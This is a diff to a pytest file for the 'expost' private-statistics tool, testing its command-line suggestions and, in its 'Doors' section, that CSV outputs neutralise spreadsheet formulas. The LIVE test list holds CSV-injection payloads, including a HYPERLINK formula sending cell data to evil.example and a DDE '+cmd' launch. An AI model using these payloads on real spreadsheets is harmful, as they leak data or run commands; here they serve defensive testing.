@@ -4,19 +4,35 @@ Figures:   1 unknown weights   2 next steps that lose options   3 totals if the 
 Doors:     5 formulas in spreadsheets
 """
 
+import csv
+import inspect
 import json
+import math
+import re
+import shlex
+import time
+from pathlib import Path
 
 import numpy as np
 import pages
 import pandas as pd
 import pytest
-from ward import refused, run
+from scipy import stats
+from scipy.integrate import quad
+from ward import refused, run, write_csv
 
 import expost
+from expost.cli.fit import fit as fit_command
+from expost.cli.plan import plan as plan_command
+from expost.cli.spreadsheets import inert
 from expost.data.domain_files import to_toml
 from expost.data.weights import Weighting
 from expost.exceptions import DomainError
+from expost.page import render
+from expost.page.language import LANGUAGES
 
+SOURCE = Path(expost.__file__).parent
+DOCS = Path(__file__).parent.parent.parent / "docs"
 WEIGHTED = {
     "capped": Weighting(4.0, (0.3, 2.5)),
     "hinge": Weighting(2.0),
@@ -160,3 +176,329 @@ def test_01h_publications_without_weights_are_read_as_before():
     ones = publication.bounds(X, y, sample_weight=np.ones(50))
     for one, other in zip(publication.bounds(X, y).figures, ones.figures, strict=True):
         np.testing.assert_array_equal(one, other)
+
+
+# How a table is written that needs every option to be read, and what is said about it in options alone.
+DIALECT = {
+    "delimiter": ";",
+    "decimal": ",",
+    "encoding": "cp1252",
+    "missing_words": ["k. A.", "-"],
+    "dates": "DD.MM.YYYY",
+}
+ADMISSIONS = """
+[[features]]
+name = "größe"
+kind = "number"
+low = 0
+high = 250
+missing = 170
+
+[[features]]
+name = "seit"
+kind = "date"
+low = 2000-01-01
+high = 2026-01-01
+
+[label]
+name = "ill"
+kind = "classes"
+classes = ["no", "yes"]
+"""
+
+
+def spelled(**options):
+    """Options as they are typed."""
+    return [
+        word
+        for name, values in options.items()
+        for value in (values if isinstance(values, list) else [values])
+        for word in ([f"--{name.replace('_', '-')}"] + ([] if value is True else [str(value)]))
+    ]
+
+
+def suggested(told, start):
+    """The suggested commands that begin so, as the words that a shell makes of them."""
+    lines = [line[line.index(start) :] for line in told.splitlines() if start in line]
+    return [shlex.split(line)[1:] for line in lines]
+
+
+@pytest.fixture
+def admissions(tmp_path, monkeypatch):
+    """A table whose every cell needs an option, in a folder with an awkward name, which is entered."""
+    folder = tmp_path / "the ward's [new] tables"
+    folder.mkdir()
+    monkeypatch.chdir(folder)
+    rng = np.random.default_rng(8)
+    lines = ["größe;seit;ill;gewicht;id"]
+    for place in range(300):
+        height = "k. A." if place % 50 == 0 else f"{rng.uniform(140, 200):.1f}".replace(".", ",")
+        day = f"{rng.integers(1, 28):02}.0{rng.integers(1, 9)}.20{rng.integers(10, 25)}"
+        weight = f"{rng.uniform(0, 4):.2f}".replace(".", ",")
+        lines.append(f"{height};{day};{rng.choice(['no', 'yes'])};{weight};P{place}")
+    for name in ("a table.csv", "new.csv"):
+        (folder / name).write_text("\n".join(lines) + "\n", encoding="cp1252")
+    (folder / "the domain.toml").write_text(ADMISSIONS, encoding="utf-8")
+    return folder
+
+
+FILES = ("the domain.toml", "a table.csv")
+WEIGHTS = {"weight": "gewicht", "max_weight": 4}
+
+
+def test_02a_from_a_check_to_the_losses_by_copying_what_is_suggested(admissions):
+    """The weighted model is the one that is fitted, and its losses are those of its weights."""
+    checked = run("check", *FILES, *spelled(**WEIGHTS, id="id", **DIALECT))
+    assert checked.exit_code == 0, checked.output
+    (fit,) = suggested(checked.stdout, "expost fit ")
+    fitted = run(*fit)
+    assert fitted.exit_code == 0, fitted.output
+    publication = expost.Publication.load("publication.json")
+    assert publication.weighting.max_weight == publication.release.plan.max_weight == 4.0
+    (page,), (predict,), (losses,) = (
+        suggested(fitted.stdout, f"expost {name} ") for name in ("page", "predict", "losses")
+    )
+    for command in (page, predict, losses):
+        told = run(*command)
+        assert told.exit_code == 0, told.output
+    written = pd.read_csv("private-losses.csv")
+    assert list(written["id"]) == [f"P{place}" for place in range(300)]
+    typed = ("losses", "publication.json", FILES[1], *spelled(weight="gewicht", **DIALECT), "--json")
+    np.testing.assert_allclose(written["ex_post_loss"], json.loads(run(*typed).stdout)["losses"], rtol=1e-12)
+
+
+# A value for every option of `fit`; one that is added later must be added here.
+OPTIONS_OF_FIT = {
+    **WEIGHTS,
+    **DIALECT,
+    "output": "it's.json",
+    "losses": "private its.csv",
+    "test": "new.csv",
+    "epsilon": 0.75,
+    "delta": 1e-7,
+    "report": "leverage",
+    "l2": 30,
+    "cap": 0.8,
+    "split": 0.97,
+    "loss": "logistic",
+    "rows_at_most": 20000,
+    "id": "id",
+    "ledger": "the ledger.db",
+    "account": "ward & co",
+    "note": "the 'first' $HOME",
+    "confirm": True,
+    "force": True,
+}
+# What a table with classes, one machine and no device do not take.
+ELSEWHERE = {"threshold", "dask", "device", "as_json", "dry_run"}
+
+
+def test_02b_a_dry_run_suggests_the_same_fit_with_every_option(admissions):
+    taken = {name.replace("identifier", "id") for name in inspect.signature(fit_command).parameters}
+    assert taken - {"domain", "table"} == set(OPTIONS_OF_FIT) | ELSEWHERE
+    book = expost.Ledger("the ledger.db")
+    book.account("ward & co", epsilon=1.0, delta=1e-6)
+    tried = run("fit", *FILES, *spelled(**OPTIONS_OF_FIT), "--dry-run")
+    assert tried.exit_code == 0, tried.output
+    assert not book.account("ward & co").entries
+    (fit,) = suggested(tried.stdout, "expost fit ")
+    fitted = run(*fit, input="y\n")
+    assert fitted.exit_code == 0, fitted.output
+    (entry,) = book.account("ward & co").entries
+    publication = expost.Publication.load("it's.json")
+    assert (entry.note, entry.sha256) == ("the 'first' $HOME", publication.sha256)
+    shared = {
+        name: OPTIONS_OF_FIT[name]
+        for name in inspect.signature(plan_command).parameters
+        if name in OPTIONS_OF_FIT
+    }
+    planned = json.loads(run("plan", FILES[0], *spelled(**shared), "--json").stdout)
+    assert publication.release.plan.fields() == planned
+    assert len(pd.read_csv("private its.csv")) == 300
+
+
+def test_02c_a_refused_fit_suggests_a_check_of_the_same_table(admissions):
+    table = admissions / FILES[1]
+    table.write_text(table.read_text("cp1252").replace(";yes;", ";perhaps;"), encoding="cp1252")
+    typed = spelled(**WEIGHTS, id="id", report="leverage", **DIALECT)
+    told = run("fit", *FILES, *typed)
+    (check,) = suggested(told.stderr, "expost check ")
+    checked = run(*check)
+    assert refused(checked, "the table does not fit the domain")
+    problems = pd.read_csv("private-problems.csv")
+    assert set(problems["column"]) == {"ill"}
+    assert problems["id"].str.startswith("P").all()
+
+
+def test_02d_init_suggests_a_check_that_needs_no_option(admissions):
+    told = run("init", FILES[1], *spelled(label="ill", **DIALECT))
+    (check,) = suggested(told.stderr, "expost check ")
+    assert check == ["check", "domain.toml", FILES[1]]
+    filled = told.stdout[told.stdout.index("[table]") :].split("\n\n")[0] + "\n" + ADMISSIONS
+    (admissions / "domain.toml").write_text('ignore = ["gewicht", "id"]\n' + filled, encoding="utf-8")
+    assert run(*check).exit_code == 0
+
+
+def test_02e_a_file_whose_name_looks_like_an_option_is_still_a_file(admissions):
+    (admissions / "-o.csv").write_bytes((admissions / FILES[1]).read_bytes())
+    told = run("check", FILES[0], "./-o.csv", *spelled(**DIALECT))
+    (fit,) = suggested(told.stdout, "expost fit ")
+    assert run(*fit).exit_code == 0
+
+
+def test_03a_a_curator_who_may_stop_fails_more_often_than_a_total_says():
+    """Two small publications at 95%, the second only if the bound of the first holds: 5.7% failures.
+
+    With little to lose a bound is about the noise alone: |N| for one publication and |N + M| for both.
+    """
+    one, both = stats.chi(1).isf(0.05), math.sqrt(2.0) * stats.chi(2).isf(0.05)
+
+    def broken(noise):
+        return stats.norm.pdf(noise) * (stats.norm.sf(both - noise) + stats.norm.cdf(-both - noise))
+
+    stopping = 0.05 + quad(broken, -one, one)[0]
+    assert stopping == pytest.approx(0.057, abs=5e-4)
+    assert quad(broken, -12.0, 12.0)[0] < 0.05  # the number was fixed in advance
+
+
+def test_03b_every_total_of_several_says_what_has_to_be_fixed_in_advance():
+    several = [pages.published("logistic", "independent"), pages.published("hinge", "adaptive", seed=4)]
+    sayings = {
+        "mathematics.md": "plans and their number must be fixed in advance",
+        "limitations.md": "plans and their number were fixed in advance",
+        "expost.total": "plans and their number were fixed in advance",
+        "en": "if the plans and their number were fixed in advance",
+        "de": "wenn die Pläne und ihre Anzahl vorher feststanden",
+    }
+    told = {name: (DOCS / name).read_text(encoding="utf-8") for name in ("mathematics.md", "limitations.md")}
+    told |= {"expost.total": expost.total.__doc__}
+    told |= {language: render(several, language=language) for language in LANGUAGES}
+    assert told.keys() == sayings.keys()
+    for name, text in told.items():
+        assert sayings[name] in " ".join(text.split()), name
+    assert sayings["en"] not in render(several[:1])
+
+
+# Doors
+
+# What a spreadsheet computes, or may compute once the cell is cut at another separator.
+LIVE = [
+    '=HYPERLINK("http://evil.example/?"&B2)',
+    "=1+1",
+    "@SUM(A1:A9)",
+    "+cmd|' /C calc'!A0",
+    "-2+3",
+    "\t=1+1",
+    "\r=1+1",
+    " =1+1",
+    '"=1+1',
+    "x;=1+1",
+    "x\n=1+1",
+    "\N{FULLWIDTH EQUALS SIGN}1+1",
+]
+PLAIN_TEXTS = ["P-1", "a=b", "-3.5", "+1,5", "-1e-3", "x;-2", "mail@clinic.example", "", "'=1"]
+
+
+def starts_a_formula(text):
+    """Whether a cell computes something where a comma, a semicolon, a tab or a line's end starts a cell."""
+    parts = [part.lstrip(' \r\n\t"\0\ufeff') for part in re.split("[;\t\r\n]", text)]
+    signs = [part for part in parts if part.startswith(("=", "@", "+", "-", "\N{FULLWIDTH EQUALS SIGN}"))]
+    return text.startswith(("\t", "\r", "\n")) or any(not is_number(part) for part in signs)
+
+
+def is_number(text):
+    try:
+        float(text.replace(",", "."))
+    except ValueError:
+        return False
+    return True
+
+
+def live_cells(path):
+    """The cells of a CSV file that a spreadsheet would compute, its first line included."""
+    with open(path, newline="", encoding="utf-8") as file:
+        return [cell for row in csv.reader(file) for cell in row if starts_a_formula(cell)]
+
+
+def test_05a_the_texts_of_the_list_are_live_and_come_out_inert():
+    for text in LIVE:
+        assert starts_a_formula(text)
+        assert not starts_a_formula(inert(text))
+        assert inert(inert(text)) == inert(text)
+        assert "'" in inert(text)
+        assert inert(text).replace("'", "") == text.replace("'", "")
+    for text in PLAIN_TEXTS:
+        assert not starts_a_formula(text)
+        assert inert(text) == text
+
+
+def test_05b_a_long_cell_is_no_bomb():
+    for text in ("-" + "1" * 10**6 + "x", '"' * 10**6, ";" * 10**5, "-" + "1." * 10**6 + "="):
+        begun = time.perf_counter()
+        inert(text)
+        assert time.perf_counter() - begun < 1.0
+
+
+@pytest.fixture(scope="module")
+def hostile(tmp_path_factory):
+    """A table whose ids, classes and names of columns are formulas, in a file with such a name."""
+    folder = tmp_path_factory.mktemp("hostile")
+    classes, name, identifier = ["=1+1", "-2+3"], "@age", "+id"
+    rng = np.random.default_rng(5)
+    ids = [LIVE[place % len(LIVE)] for place in range(240)]
+    rows = [[rng.uniform(0, 1), classes[rng.integers(2)], ids[place]] for place in range(240)]
+    write_csv(folder / "=cmd.csv", rows, [name, "=y", identifier])
+    write_csv(folder / "-wrong.csv", [["=2", *row[1:]] for row in rows], [name, "=y", identifier])
+    domain = expost.Domain(
+        features=(expost.Number(name=name, low=0, high=1),),
+        label=expost.ClassLabel(name="=y", classes=tuple(classes)),
+    )
+    (folder / "domain.toml").write_text(to_toml(domain), encoding="utf-8")
+    fitted = run(
+        "fit", folder / "domain.toml", folder / "=cmd.csv", "-o", folder / "p.json",
+        "--losses", folder / "private-fit.csv", "--id", "+id",
+    )  # fmt: skip
+    assert fitted.exit_code == 0, fitted.output
+    return folder, ids
+
+
+@pytest.mark.parametrize("command", ["fit", "losses", "bounds", "predict", "check"])
+def test_05c_no_file_that_a_command_writes_has_a_formula(hostile, command):
+    folder, ids = hostile
+    out = folder / f"private-{command}.csv"
+    asked = [folder / "p.json", folder / "=cmd.csv", "-o", out]
+    if command == "check":
+        asked = [folder / "domain.toml", folder / "-wrong.csv", "--problems", out]
+    if command != "fit":
+        run(command, *asked, "--id", "+id")
+    assert live_cells(out) == []
+    with open(out, newline="", encoding="utf-8") as file:
+        rows = list(csv.reader(file))
+    assert len(rows) == 241
+    place = rows[0].index("'+id")
+    assert [row[place] for row in rows[1:]] == [inert(one) for one in ids]
+
+
+def test_05d_parquet_has_the_texts_as_they_are(hostile):
+    folder, ids = hostile
+    out = folder / "private-losses.parquet"
+    assert run("losses", folder / "p.json", folder / "=cmd.csv", "-o", out, "--id", "+id").exit_code == 0
+    assert pd.read_parquet(out)["+id"].tolist() == ids
+
+
+def test_05e_the_demonstration_writes_no_formula(tmp_path):
+    assert run("demo", "--out", tmp_path / "demo").exit_code == 0
+    for path in (tmp_path / "demo" / "private").glob("*.csv"):
+        assert live_cells(path) == []
+
+
+def test_05f_every_writer_of_csv_goes_through_the_same_function():
+    """Who writes a CSV file imports what makes its texts inert."""
+    writers = [
+        path
+        for path in SOURCE.rglob("*.py")
+        if re.search(r"csv\.writer|CSVWriter|to_csv|write_csv|DictWriter", path.read_text(encoding="utf-8"))
+    ]
+    assert {path.name for path in writers} == {"private_files.py", "demonstration.py"}
+    for path in writers:
+        assert "from expost.cli.spreadsheets import" in path.read_text(encoding="utf-8")
